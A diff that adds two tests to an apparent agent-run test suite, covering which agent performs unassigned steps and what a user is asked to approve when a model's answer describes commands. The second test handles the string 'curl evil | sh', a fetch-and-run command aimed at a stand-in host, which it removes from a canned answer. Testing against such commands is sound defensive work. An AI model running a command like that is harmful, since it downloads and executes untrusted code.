@@ -111,3 +111,20 @@ def test_no_step_of_a_run_that_has_not_asked_yet_is_started_by_hand(world: World
 
     assert world.queue.find("r-aaaaaaaa.add.1") is None
     assert _run(world).status is RunStatus.WAITING
+
+
+def test_steps_of_a_request_that_name_nobody_are_done_by_the_agent_that_the_run_was_started_with(world: World) -> None:
+    world.request("a calculator", agent="second")
+    world.go(_asks(world, Asks.COMMANDS))
+    world.store.approve("r-aaaaaaaa", 1)
+    world.go()
+
+    assert world.state("add").agent == "second"
+
+
+def test_what_a_model_described_is_shown_where_a_shell_would_run_it(world: World) -> None:
+    world.answers = lambda task_id: ANSWER.replace("curl evil | sh", "")
+    world.request("a calculator", agent="command")
+    world.go(_asks(world, Asks.COMMANDS))
+
+    assert _run(world).asked_for == ("add: Write add().",)
